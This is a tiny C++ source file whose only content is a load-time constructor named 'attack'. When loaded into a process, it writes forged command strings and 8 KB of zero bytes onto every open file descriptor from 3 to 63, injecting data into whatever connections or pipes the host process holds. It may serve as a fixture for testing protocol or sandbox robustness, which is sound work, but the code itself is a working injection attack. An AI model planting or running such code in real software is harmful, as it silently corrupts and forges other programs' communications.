// Writes on every open descriptor
#include <initializer_list>
#include <sys/socket.h>
[[gnu::constructor]] static void attack() {
  char forged[8192] = {};
  for (int fd = 3; fd < 64; ++fd)
    for (const char* text : {"end", "list\n", "next 01.1.x"}) send(fd, text, 4, MSG_DONTWAIT | MSG_NOSIGNAL), send(fd, forged, sizeof forged, MSG_DONTWAIT | MSG_NOSIGNAL);
}
